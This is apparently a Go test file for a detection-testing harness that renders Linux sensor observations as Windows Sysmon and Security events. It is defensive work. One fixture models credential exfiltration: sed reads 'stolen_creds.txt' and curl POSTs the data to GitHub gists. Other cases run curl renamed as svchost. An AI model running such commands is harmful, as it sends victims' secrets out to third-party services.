package telemetry

import (
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/emulator"
	"github.com/t1567001/harness/event"
	"github.com/t1567001/harness/fixtures"
	"github.com/t1567001/harness/internal/reftest"
	"github.com/t1567001/harness/sensor"
)

func profile(t *testing.T, name string) *Profile {
	t.Helper()
	fsys, err := fs.Sub(fixtures.FS, "profiles")
	require.NoError(t, err)
	p, err := LoadProfile(fsys, name)
	require.NoError(t, err)
	return p
}

// scenario is a git push as the sensor reports it on Debian: sh runs git,
// git runs git remote-https, which execs git-remote-http (a link named
// git-remote-https) and connects to the proxy from local port 40001.
type scenario struct {
	t0  time.Time
	obs []sensor.Observation
}

func (s *scenario) add(ms int, o sensor.Observation) {
	o.Time = s.t0.Add(time.Duration(ms) * time.Millisecond)
	s.obs = append(s.obs, o)
}

func gitPush() ([]sensor.Observation, []emulator.Entry) {
	s := &scenario{t0: time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)}
	zero := 0
	s.add(0, sensor.Observation{Kind: "exec", PID: 100, PPID: 1, Exe: "/usr/bin/dash", Argv: []string{"sh", "-c", "git push ..."}, Cwd: "/w"})
	s.add(1, sensor.Observation{Kind: "exec", PID: 101, PPID: 100, Exe: "/usr/bin/git", Argv: []string{"git", "push", "--force", "https://github.com/o/r.git"}, Cwd: "/w"})
	s.add(2, sensor.Observation{Kind: "exec", PID: 102, PPID: 101, Exe: "/usr/bin/git", Argv: []string{"/usr/lib/git-core/git", "remote-https", "origin"}, Cwd: "/w"})
	s.add(3, sensor.Observation{Kind: "exec", PID: 102, PPID: 101, Exe: "/usr/lib/git-core/git-remote-http", Argv: []string{"/usr/lib/git-core/git-remote-https", "origin", "https://github.com/o/r.git"}, Cwd: "/w"})
	s.add(4, sensor.Observation{Kind: "connect", PID: 102, RemoteIP: "127.0.0.1", RemotePort: 3128, LocalIP: "127.0.0.1", LocalPort: 40001, Result: "ok", Proto: "tcp"})
	s.add(5, sensor.Observation{Kind: "file", PID: 101, Path: "/w/.git/FETCH_HEAD", Created: true, Result: "ok"})
	s.add(6, sensor.Observation{Kind: "file", PID: 101, Path: "/elsewhere/x", Created: true, Result: "ok"})
	s.add(9, sensor.Observation{Kind: "exit", PID: 100, ExitCode: &zero})
	ledger := []emulator.Entry{{Method: "CONNECT", Path: "github.com:443", Host: "github.com", ClientIP: "127.0.0.1", ClientPort: 40001, Status: 200}}
	return s.obs, ledger
}

func byID(events []event.Event, id int) []event.Event {
	var out []event.Event
	for _, e := range events {
		if e.EventID == id {
			out = append(out, e)
		}
	}
	return out
}

func get(e event.Event, name string) string { v, _ := e.Get(name); return v }

func TestRenderGitPush(t *testing.T) {
	obs, ledger := gitPush()
	p := profile(t, "workstation")
	events, err := Render(p, Input{RunID: "run-1", Observations: obs, Ledger: ledger, Shell: "command_prompt",
		Command: `git push --force https://github.com/o/r.git`, WorkDir: "/w"})
	require.NoError(t, err)

	procs := byID(events, 1)
	require.Len(t, procs, 5, "cmd.exe, the cmd\\git.exe launcher, git.exe, git.exe remote-https, git-remote-https.exe")
	assert.Equal(t, `C:\Windows\System32\cmd.exe`, get(procs[0], "Image"))
	assert.Equal(t, `C:\Windows\explorer.exe`, get(procs[0], "ParentImage"))
	assert.Equal(t, `"C:\Windows\system32\cmd.exe" /c "git push --force https://github.com/o/r.git"`, get(procs[0], "CommandLine"))
	assert.Equal(t, `C:\Program Files\Git\cmd\git.exe`, get(procs[1], "Image"))
	assert.Equal(t, `git push --force https://github.com/o/r.git`, get(procs[1], "CommandLine"), "typed in the shell")
	assert.Equal(t, `C:\Program Files\Git\mingw64\bin\git.exe`, get(procs[2], "Image"))
	assert.Equal(t, `"C:\Program Files\Git\mingw64\bin\git.exe" push --force https://github.com/o/r.git`, get(procs[2], "CommandLine"))
	assert.Equal(t, get(procs[1], "ProcessGuid"), get(procs[2], "ParentProcessGuid"))
	assert.Equal(t, `C:\Program Files\Git\mingw64\libexec\git-core\git-remote-https.exe`, get(procs[4], "Image"),
		"the link's name decides the image, not the file it points to")
	assert.Equal(t, get(procs[3], "ProcessGuid"), get(procs[4], "ParentProcessGuid"), "git.exe starts git-remote-https.exe")
	assert.Equal(t, `C:\Users\j.doe\AppData\Local\Temp\df00tech-exfil\`, get(procs[1], "CurrentDirectory"))

	nets := byID(events, 3)
	require.Len(t, nets, 1)
	assert.Equal(t, get(procs[4], "Image"), get(nets[0], "Image"), "the connection is git-remote-https.exe's, as on Windows")
	assert.Equal(t, get(procs[4], "ProcessGuid"), get(nets[0], "ProcessGuid"))
	assert.Equal(t, "github.com", get(nets[0], "DestinationHostname"))
	assert.Equal(t, "140.82.112.3", get(nets[0], "DestinationIp"))
	assert.Equal(t, "443", get(nets[0], "DestinationPort"))
	assert.Equal(t, "40001", get(nets[0], "SourcePort"), "the real client port: the join key")
	assert.Equal(t, "WS-FIN-0142.corp.example", get(nets[0], "SourceHostname"))

	dns := byID(events, 22)
	require.Len(t, dns, 1)
	assert.Equal(t, "github.com", get(dns[0], "QueryName"))
	assert.Equal(t, "::ffff:140.82.112.3;", get(dns[0], "QueryResults"))

	for _, e := range events {
		assert.NotEqual(t, event.Simulated, e.Provenance, "a real run is not marked simulated")
	}
	files := byID(events, 11)
	require.Len(t, files, 1, "only files under the work or home directory")
	assert.Equal(t, `C:\Users\j.doe\AppData\Local\Temp\df00tech-exfil\.git\FETCH_HEAD`, get(files[0], "TargetFilename"))

	require.Len(t, byID(events, 4688), 5)
	for _, e := range byID(events, 4688) {
		assert.Equal(t, "Security", e.Channel)
		assert.True(t, strings.HasPrefix(get(e, "NewProcessId"), "0x"))
	}
	assert.Empty(t, byID(events, 4104), "cmd.exe writes no script block")
}

func TestRenderRealism(t *testing.T) {
	obs, ledger := gitPush()
	p := profile(t, "workstation")
	for realism, want := range map[Realism]string{RealismResolved: "github.com", RealismPTR: "lb-140-82-112-3-iad.github.com", RealismOff: "-"} {
		events, err := Render(p, Input{Observations: obs, Ledger: ledger, Shell: "command_prompt", Command: "x", WorkDir: "/w", Realism: realism})
		require.NoError(t, err)
		assert.Equal(t, want, get(byID(events, 3)[0], "DestinationHostname"), realism)
	}
	_, err := ParseRealism("fuzzy")
	assert.ErrorContains(t, err, "fuzzy")
}

func TestRenderUnjoinedConnectIsHonest(t *testing.T) {
	obs, _ := gitPush()
	events, err := Render(profile(t, "workstation"), Input{Observations: obs, Shell: "command_prompt", Command: "x", WorkDir: "/w"})
	require.NoError(t, err)
	n := byID(events, 3)[0]
	assert.Equal(t, "-", get(n, "DestinationHostname"), "no ledger entry: the name is not guessed")
	assert.Equal(t, "127.0.0.1", get(n, "DestinationIp"))
	assert.Empty(t, byID(events, 22))
}

func TestRenderSimulatedPowerShell(t *testing.T) {
	s := &scenario{t0: time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)}
	s.add(0, sensor.Observation{Kind: "exec", PID: 200, PPID: 1, Exe: "/usr/bin/dash", Argv: []string{"sh", "-c", "harness replay-http ..."}, Cwd: "/w"})
	s.add(1, sensor.Observation{Kind: "exec", PID: 201, PPID: 200, Exe: "/opt/harness", Argv: []string{"/opt/harness", "replay-http"}, Cwd: "/w"})
	s.add(2, sensor.Observation{Kind: "connect", PID: 201, RemoteIP: "127.0.0.1", RemotePort: 3128, LocalIP: "127.0.0.1", LocalPort: 40002, Result: "attempted"})
	ledger := []emulator.Entry{{Method: "CONNECT", Path: "api.github.com:443", Host: "api.github.com", ClientIP: "127.0.0.1", ClientPort: 40002}}
	script := `Invoke-RestMethod -Method PUT -Uri "https://api.github.com/repos/o/r/contents/f"`
	events, err := Render(profile(t, "ide"), Input{Observations: s.obs, Ledger: ledger, Shell: "powershell", Command: script, Merge: "/opt/harness", WorkDir: "/w"})
	require.NoError(t, err)
	procs := byID(events, 1)
	require.Len(t, procs, 1, "the replay child is the simulated tool, not a process of its own")
	assert.Equal(t, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, get(procs[0], "Image"))
	assert.Contains(t, get(procs[0], "CommandLine"), script)
	assert.Contains(t, get(procs[0], "ParentImage"), `Code.exe`)
	sb := byID(events, 4104)
	require.Len(t, sb, 1)
	assert.Equal(t, script, get(sb[0], "ScriptBlockText"))
	assert.Equal(t, event.PowerShellChannel, sb[0].Channel)
	net := byID(events, 3)
	require.Len(t, net, 1)
	assert.Equal(t, get(procs[0], "ProcessGuid"), get(net[0], "ProcessGuid"), "the replay's connection is powershell.exe's")
	assert.Equal(t, "api.github.com", get(net[0], "DestinationHostname"))
	for _, e := range events {
		assert.Equal(t, event.Simulated, e.Provenance, "event %d of a simulated test says so", e.EventID)
	}
	var buf bytes.Buffer
	require.NoError(t, WriteJSONL(&buf, events[:1]))
	assert.Contains(t, buf.String(), `"harness_provenance":"simulated"`)
	back, err := readBack(&buf)
	require.NoError(t, err)
	require.Len(t, back, 1)
	assert.Equal(t, event.Simulated, back[0].Provenance)
	buf.Reset()
	require.NoError(t, WriteXML(&buf, events[:1]))
	assert.NotContains(t, buf.String(), "simulated", "the XML keeps exactly the shape of real events")
}

func TestRenderFoldsVersionManagerShims(t *testing.T) {
	s := &scenario{t0: time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)}
	s.add(0, sensor.Observation{Kind: "exec", PID: 300, PPID: 1, Exe: "/usr/bin/dash", Argv: []string{"sh", "-c", "python3 -c x"}})
	s.add(1, sensor.Observation{Kind: "exec", PID: 301, PPID: 300, Exe: "/usr/bin/env", Argv: []string{"env", "bash", "/root/.pyenv/shims/python3", "-c", "x"}})
	s.add(2, sensor.Observation{Kind: "exec", PID: 301, PPID: 300, Exe: "/usr/bin/bash", Argv: []string{"bash", "/root/.pyenv/libexec/pyenv", "exec", "python3"}})
	s.add(3, sensor.Observation{Kind: "exec", PID: 303, PPID: 302, Exe: "/usr/bin/readlink", Argv: []string{"readlink", "pyenv"}})
	s.add(4, sensor.Observation{Kind: "exit", PID: 302, PPID: 301})
	s.add(5, sensor.Observation{Kind: "exec", PID: 301, PPID: 300, Exe: "/root/.pyenv/versions/3.11.7/bin/python3.11", Argv: []string{"/root/.pyenv/versions/3.11.7/bin/python3", "-c", "x"}})
	events, err := Render(profile(t, "workstation"), Input{Observations: s.obs, Shell: "command_prompt", Command: "python.exe -c x"})
	require.NoError(t, err)
	procs := byID(events, 1)
	require.Len(t, procs, 2, "cmd.exe and python.exe; the shim chain and its subshell's readlink fold away")
	assert.Equal(t, `C:\Users\j.doe\AppData\Local\Programs\Python\Python311\python.exe`, get(procs[1], "Image"))
	assert.Equal(t, "python.exe -c x", get(procs[1], "CommandLine"))
	assert.Equal(t, get(procs[0], "ProcessGuid"), get(procs[1], "ParentProcessGuid"))
}

func TestRenderedXMLParsesBack(t *testing.T) {
	obs, ledger := gitPush()
	events, err := Render(profile(t, "ci-runner"), Input{RunID: "r", Observations: obs, Ledger: ledger, Shell: "command_prompt", Command: "git push", WorkDir: "/w"})
	require.NoError(t, err)
	var buf, side bytes.Buffer
	require.NoError(t, WriteXML(&buf, events))
	assert.NotContains(t, buf.String(), "harness_", "the XML keeps exactly the shape of real events")
	require.NoError(t, WriteProvenance(&side, events))
	back, err := readBack(&buf)
	require.NoError(t, err)
	require.Len(t, back, len(events))
	for i := range events {
		want := events[i]
		want.RunID, want.Provenance, want.Observations, want.ModelledFields, want.Context = "", "", nil, nil, ""
		assert.Equal(t, want, back[i])
	}
	require.NoError(t, ApplyProvenance("events.provenance.jsonl", &side, back))
	assert.Equal(t, events, back, "the sidecar restores what each event rests on")
}

func TestApplyProvenanceErrors(t *testing.T) {
	events := []event.Event{{Computer: "H", Channel: event.SysmonChannel, RecordID: 7}}
	for name, tc := range map[string]struct{ line, want string }{
		"unknown event":  {`{"Computer":"H","Channel":"Security","EventRecordID":7,"harness_provenance":"observed"}`, "side:2: no event on H in Security"},
		"bad provenance": {`{"Computer":"H","Channel":"Microsoft-Windows-Sysmon/Operational","EventRecordID":7,"harness_provenance":"guessed"}`, `side:2: provenance "guessed"`},
		"bad json":       {`{`, "side:2:"},
	} {
		t.Run(name, func(t *testing.T) {
			err := ApplyProvenance("side", strings.NewReader("\n"+tc.line+"\n"), events)
			assert.ErrorContains(t, err, tc.want)
		})
	}
	dup := []event.Event{events[0], events[0]}
	dup[0].Provenance, dup[1].Provenance = event.Observed, event.Declared
	assert.ErrorContains(t, WriteProvenance(io.Discard, dup), "EventRecordID 7")
}

func TestProfiles(t *testing.T) {
	fsys, err := fs.Sub(fixtures.FS, "profiles")
	require.NoError(t, err)
	names, err := ProfileNames(fsys)
	require.NoError(t, err)
	assert.Equal(t, []string{"build-agent", "ci-runner", "ide", "workstation", "workstation-sysmon-dns"}, names, "windows-base is a base, not a context")
	ci := profile(t, "ci-runner")
	assert.Equal(t, "GITLAB-RUNNER-W03", ci.Host.Name)
	assert.NotEmpty(t, ci.Images["git"].Image, "inherited from the base")

	_, err = LoadProfile(fsys, "nope")
	assert.ErrorContains(t, err, "nope")
}

func TestProfileErrorsNameFileAndLine(t *testing.T) {
	fsys := fstestMap{
		"base.yaml": "images:\n  git: {image: x}\n",
		"bad.yaml":  "name: bad\nbase: base\nhost:\n  nmae: typo\n",
		"loop.yaml": "name: loop\nbase: loop\n",
		"thin.yaml": "name: thin\n",
	}.fs()
	_, err := LoadProfile(fsys, "bad")
	require.Error(t, err)
	assert.Equal(t, "bad.yaml:4: nmae: unknown field", err.Error(), "in the loader's words, not a Go type's")
	_, err = LoadProfile(fsys, "loop")
	assert.ErrorContains(t, err, "cycle")
	_, err = LoadProfile(fsys, "thin")
	assert.ErrorContains(t, err, "host.name")
}

func TestProfileErrorsReadLikeTheLoaders(t *testing.T) {
	for _, tc := range []struct{ name, yaml, want string }{
		{"wrong type", "name: x\nsysmon:\n  pid: many\n", `x.yaml:3: expected a number, got a string "many"`},
		{"list for a mapping", "name: x\nhost: [a]\n", "x.yaml:2: expected a mapping, got a list"},
		{"control character", "name: x\nhost:\n  name: \x01\n", "x.yaml:3: control characters are not allowed"},
		{"invalid UTF-8", "name: x\ntemp: \xff\n", "x.yaml:2: invalid leading UTF-8 octet"},
		{"nesting too deep", "name: x\ncollapse: " + strings.Repeat("[", 10001) + "\n", "x.yaml:2: exceeded max depth of 10000"},
		{"unknown anchor", "name: x\ntemp: *t\n", "x.yaml:2: unknown anchor 't' referenced"},
		{"mapping values", "name: x\ntemp: a: b\n", "x.yaml:2: mapping values are not allowed in this context"},
		{"bad realism", "name: x\nrealism: maybe\nhost: {name: h}\nuser: {name: u, domain: d, sid: s}\ntemp: t\nwork_dir: w\nparent: {image: p}\n", "x.yaml: realism: "},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := LoadProfile(fstestMap{"x.yaml": tc.yaml}.fs(), "x")
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.want)
			assert.NotContains(t, err.Error(), "telemetry.")
			var pe *ProfileError
			assert.ErrorAs(t, err, &pe)
		})
	}
}

type fstestMap map[string]string

func (m fstestMap) fs() fs.FS {
	out := fstest.MapFS{}
	for k, v := range m {
		out[k] = &fstest.MapFile{Data: []byte(v)}
	}
	return out
}

func dataNames(e event.Event) []string {
	var out []string
	for _, f := range e.Data {
		out = append(out, f.Name)
	}
	return out
}

// TestFieldsMatchRealSamplesAndSchema pins every rendered Sysmon 1/3/11/22
// and Security 4688 event to the field names, in order, of the real samples
// in the reference corpus. Those samples come from older Sysmon schemas:
// schema 4.81 (which the renderer follows) appends ParentUser to Event ID 1
// and User to Event IDs 11 and 22, so those are the only differences
// allowed. The 4.81 manifest itself is checked too.
func TestFieldsMatchRealSamplesAndSchema(t *testing.T) {
	ref := reftest.Dir(t)
	obs, ledger := gitPush()
	events, err := Render(profile(t, "workstation"), Input{Observations: obs, Ledger: ledger, Shell: "command_prompt", Command: "git push", WorkDir: "/w"})
	require.NoError(t, err)
	added := map[int][]string{1: {"ParentUser"}, 11: {"User"}, 22: {"User"}}
	samples := map[int]string{1: "sysmon_eventid_1.xml", 3: "sysmon_eventid_3.xml", 11: "sysmon_eventid_11.xml", 22: "sysmon_eventid_22.xml", 4688: "windows_event_log_security_4688.xml"}
	schema, err := os.ReadFile(filepath.Join(ref, "schema", "sysmon_schema_4.81_eid_1_3_11_22.txt"))
	require.NoError(t, err)
	for id, file := range samples {
		f, err := os.Open(filepath.Join(ref, "telemetry", "splunk_data_sources_example_log", file))
		require.NoError(t, err)
		real, err := readBack(f)
		f.Close()
		require.NoError(t, err)
		require.Len(t, real, 1)
		rendered := byID(events, id)
		require.NotEmpty(t, rendered, "event ID %d rendered", id)
		want := append(dataNames(real[0]), added[id]...)
		for _, e := range rendered {
			assert.Equal(t, want, dataNames(e), "event ID %d field names and order", id)
			assert.Equal(t, real[0].Provider, e.Provider)
			assert.Equal(t, real[0].Version, e.Version)
			assert.Equal(t, real[0].Task, e.Task)
			assert.Equal(t, real[0].Keywords, e.Keywords)
			assert.Equal(t, real[0].Channel, e.Channel)
		}
		if id != 4688 {
			assert.Equal(t, schemaFields(t, string(schema), id), dataNames(rendered[0]), "Sysmon schema 4.81, event ID %d", id)
		}
	}
}

// schemaFields reads "EventID N" blocks of the 4.81 manifest extract.
func schemaFields(t *testing.T, schema string, id int) []string {
	t.Helper()
	var out []string
	in := false
	for _, line := range strings.Split(schema, "\n") {
		if strings.HasPrefix(line, "EventID ") {
			in = strings.HasPrefix(line, fmt.Sprintf("EventID %d ", id))
			continue
		}
		if f := strings.Fields(line); in && len(f) >= 2 && strings.HasSuffix(f[0], ".") {
			out = append(out, f[1])
		}
	}
	require.NotEmpty(t, out, "event ID %d in the schema", id)
	return out
}

// BenchmarkRender renders a git push scenario under a profile, reporting
// rendered events per second.
func BenchmarkRender(b *testing.B) {
	fsys, err := fs.Sub(fixtures.FS, "profiles")
	require.NoError(b, err)
	p, err := LoadProfile(fsys, "workstation")
	require.NoError(b, err)
	obs, ledger := gitPush()
	in := Input{RunID: "bench", Observations: obs, Ledger: ledger, Shell: "command_prompt", Command: "git push", WorkDir: "/w", Hashes: NewHashCache()}
	n := 0
	b.ReportAllocs()
	for b.Loop() {
		events, err := Render(p, in)
		if err != nil {
			b.Fatal(err)
		}
		n += len(events)
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "events/s")
}

// curlGist is the curl atomic as the sensor sees it: sh runs sed and awk
// to build the JSON, then curl, which connects through the proxy.
func curlGist() ([]sensor.Observation, []emulator.Entry) {
	s := &scenario{t0: time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)}
	s.add(0, sensor.Observation{Kind: "exec", PID: 400, PPID: 1, Exe: "/usr/bin/dash", Argv: []string{"sh", "-c", "printf ... | curl ..."}, Cwd: "/w"})
	s.add(1, sensor.Observation{Kind: "exec", PID: 401, PPID: 400, Exe: "/usr/bin/sed", Argv: []string{"sed", "-e", `s/"/\\"/g`, "stolen_creds.txt"}, Cwd: "/w"})
	s.add(2, sensor.Observation{Kind: "exec", PID: 402, PPID: 400, Exe: "/usr/bin/mawk", Argv: []string{"awk", `{printf "%s\\n", $0}`}, Cwd: "/w"})
	s.add(3, sensor.Observation{Kind: "file", PID: 400, Path: "/w/gist.json", Created: true, Result: "ok"})
	s.add(4, sensor.Observation{Kind: "exec", PID: 403, PPID: 400, Exe: "/usr/bin/curl", Argv: []string{"curl", "-X", "POST", "https://api.github.com/gists", "-d", "@gist.json"}, Cwd: "/w"})
	s.add(5, sensor.Observation{Kind: "connect", PID: 403, RemoteIP: "127.0.0.1", RemotePort: 3128, LocalIP: "127.0.0.1", LocalPort: 40003, Result: "ok", Proto: "tcp"})
	ledger := []emulator.Entry{{Seq: 9, Method: "CONNECT", Path: "api.github.com:443", Host: "api.github.com", ClientIP: "127.0.0.1", ClientPort: 40003, Status: 200}}
	return s.obs, ledger
}

func TestRenderProvenance(t *testing.T) {
	obs, ledger := curlGist()
	command := `@{...} | Set-Content gist.json; curl.exe -X POST https://api.github.com/gists -d "@gist.json"`
	events, err := Render(profile(t, "workstation"), Input{Observations: obs, Ledger: ledger, Shell: "powershell", Command: command, WorkDir: "/w"})
	require.NoError(t, err)
	procs := byID(events, 1)
	require.Len(t, procs, 2, "powershell.exe stands for sh, sed and awk; curl.exe is the one program it names")
	shell, curl := procs[0], procs[1]
	assert.Equal(t, event.Declared, shell.Provenance)
	assert.Equal(t, []string{"obs-1", "obs-2", "obs-3"}, shell.Observations, "the declared shell lists the observed processes it stands for")
	assert.Equal(t, "-", get(shell, "Hashes"), "no Linux binary's hashes on a declared Windows image")
	assert.Subset(t, shell.ModelledFields, []string{"ParentImage", "ParentCommandLine"}, "Explorer, the profile's parent, is modelled")
	assert.Equal(t, event.Observed, curl.Provenance)
	assert.Equal(t, []string{"obs-5"}, curl.Observations)
	assert.Equal(t, []string{"ProcessGuid", "ProcessId", "ParentProcessGuid", "ParentProcessId", "ParentImage", "ParentCommandLine"}, curl.ModelledFields)
	assert.Contains(t, get(curl, "Hashes"), "SHA256=", "an observed process carries the hashes of the binary that ran")
	assert.Equal(t, get(shell, "ProcessGuid"), get(curl, "ParentProcessGuid"))
	for _, e := range byID(events, 4688) {
		assert.Contains(t, []event.Provenance{event.Declared, event.Observed}, e.Provenance)
	}
	sb := byID(events, 4104)
	require.Len(t, sb, 1)
	assert.Equal(t, event.Declared, sb[0].Provenance)

	net := byID(events, 3)
	require.Len(t, net, 1)
	assert.Equal(t, event.Observed, net[0].Provenance)
	assert.Equal(t, []string{"obs-6", "ledger-9"}, net[0].Observations)
	assert.Subset(t, net[0].ModelledFields, []string{"DestinationIp", "SourceIp", "ProcessGuid"}, "the profile's address stands for the proxy's")
	assert.NotContains(t, net[0].ModelledFields, "Image", "curl.exe itself was observed")
	dns := byID(events, 22)
	require.Len(t, dns, 1)
	assert.Equal(t, event.Modelled, dns[0].Provenance, "no query was seen, only the name asked of the proxy")
	files := byID(events, 11)
	require.Len(t, files, 1)
	assert.Equal(t, event.Observed, files[0].Provenance)
	assert.Contains(t, files[0].ModelledFields, "Image", "the file was created by sh, which the declared shell stands for")
	for _, e := range events {
		assert.Equal(t, "workstation", e.Context)
		assert.NotEmpty(t, e.Observations, "event %d lists its observations", e.EventID)
	}
}

func TestRenderLauncherIsModelled(t *testing.T) {
	obs, ledger := gitPush()
	events, err := Render(profile(t, "workstation"), Input{Observations: obs, Ledger: ledger, Shell: "command_prompt", Command: "git push --force https://github.com/o/r.git", WorkDir: "/w"})
	require.NoError(t, err)
	procs := byID(events, 1)
	require.Len(t, procs, 5)
	want := map[string]event.Provenance{
		`C:\Windows\System32\cmd.exe`:              event.Declared,
		`C:\Program Files\Git\cmd\git.exe`:         event.Modelled,
		`C:\Program Files\Git\mingw64\bin\git.exe`: event.Observed,
	}
	for _, p := range procs[:3] {
		assert.Equal(t, want[get(p, "Image")], p.Provenance, get(p, "Image"))
	}
	assert.Equal(t, "-", get(procs[1], "Hashes"), "the modelled launcher has no Linux hashes")
	assert.Equal(t, procs[1].Observations, procs[2].Observations, "the launcher rests on git's exec")
}

// TestRenderProgramRunFromItsFolder pins where a program renders: one the
// test put in its work or home folder (a renamed copy) where it ran, with
// the .exe Windows needs, in its image and the file that created it alike;
// an installed one where the profile installs it.
func TestRenderProgramRunFromItsFolder(t *testing.T) {
	const work = `C:\Users\j.doe\AppData\Local\Temp\df00tech-exfil`
	cases := []struct {
		name, exe, argv0, command string
		image, typed, original    string
		procs                     int
	}{
		{"renamed curl in the work folder", "/w/svchost", "./svchost", "svchost -X PUT", work + `\svchost.exe`, "svchost", "-", 2},
		{"curl copied under its own name", "/w/curl", "./curl", "curl.exe -X PUT", work + `\curl.exe`, "curl.exe", "curl.exe", 2},
		{"git copied: run by path, no launcher", "/w/git", "./git", "git push", work + `\git.exe`, "git", "git.exe", 2},
		{"a tool in the test's home", "/h/bin/sync", "sync", "sync", `C:\Users\j.doe\bin\sync.exe`, "sync", "-", 2},
		{"installed curl", "/usr/bin/curl", "curl", "curl.exe -X PUT", `C:\Windows\System32\curl.exe`, "curl.exe", "curl.exe", 2},
		{"unmapped installed tool", "/usr/bin/sed", "sed", "sed -n p", `C:\Program Files\Git\usr\bin\sed.exe`, "sed", "-", 2},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := &scenario{t0: time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)}
			s.add(0, sensor.Observation{Kind: "exec", PID: 500, PPID: 1, Exe: "/usr/bin/dash", Argv: []string{"sh", "-c", "x"}, Cwd: "/w"})
			s.add(1, sensor.Observation{Kind: "file", PID: 500, Path: tc.exe, Created: true, Result: "ok"})
			s.add(2, sensor.Observation{Kind: "exec", PID: 501, PPID: 500, Exe: tc.exe, Argv: []string{tc.argv0, "-X", "PUT"}, Cwd: "/w"})
			s.add(3, sensor.Observation{Kind: "connect", PID: 501, RemoteIP: "127.0.0.1", RemotePort: 3128, LocalIP: "127.0.0.1", LocalPort: 40005, Result: "ok", Proto: "tcp"})
			ledger := []emulator.Entry{{Method: "CONNECT", Path: "api.github.com:443", Host: "api.github.com", ClientIP: "127.0.0.1", ClientPort: 40005, Status: 200}}
			events, err := Render(profile(t, "workstation"), Input{Observations: s.obs, Ledger: ledger, Shell: "command_prompt",
				Command: tc.command, WorkDir: "/w", HomeDir: "/h"})
			require.NoError(t, err)
			procs := byID(events, 1)
			require.Len(t, procs, tc.procs)
			prog := procs[len(procs)-1]
			assert.Equal(t, tc.image, get(prog, "Image"))
			assert.Equal(t, tc.typed+" -X PUT", get(prog, "CommandLine"), "typed in the shell")
			assert.Equal(t, tc.original, get(prog, "OriginalFileName"), "a copy keeps its namesake's version resource")
			assert.Equal(t, get(procs[0], "ProcessGuid"), get(prog, "ParentProcessGuid"))
			nets := byID(events, 3)
			require.Len(t, nets, 1)
			assert.Equal(t, tc.image, get(nets[0], "Image"))
			if files := byID(events, 11); strings.HasPrefix(tc.exe, "/w/") || strings.HasPrefix(tc.exe, "/h/") {
				require.Len(t, files, 1)
				assert.Equal(t, tc.image, get(files[0], "TargetFilename"), "the file written is the image that runs")
			} else {
				assert.Empty(t, files, "nothing outside the test's folders is rendered as written")
			}
		})
	}
}

// TestImageByPathOfACopy: the signer Elastic Defend reports for a program
// follows the renderer's rule: a copy the test ran from its own folders
// keeps its namesake's signature (a copied PE keeps its Authenticode
// data), a renamed one has no namesake, and elsewhere only the profile's
// own paths are known.
func TestImageByPathOfACopy(t *testing.T) {
	p := profile(t, "workstation")
	for path, signer := range map[string]string{
		`C:\Windows\System32\curl.exe`:                                  "Microsoft Windows",
		`C:\Users\j.doe\AppData\Local\Temp\df00tech-exfil\curl.exe`:     "Microsoft Windows",
		`C:\Users\j.doe\AppData\Local\Temp\df00tech-exfil\sub\curl.exe`: "Microsoft Windows",
		`C:\Users\j.doe\bin\python3.exe`:                                "Python Software Foundation",
		`C:\Users\j.doe\AppData\Local\Temp\df00tech-exfil\svchost.exe`:  "",
		`C:\Tools\curl.exe`:                                             "",
		`C:\Users\j.doe.old\curl.exe`:                                   "",
		`curl.exe`:                                                      "",
	} {
		img, ok := p.ImageByPath(path)
		assert.Equal(t, signer != "", ok, path)
		assert.Equal(t, signer, img.CodeSignature.SubjectName, path)
	}
}
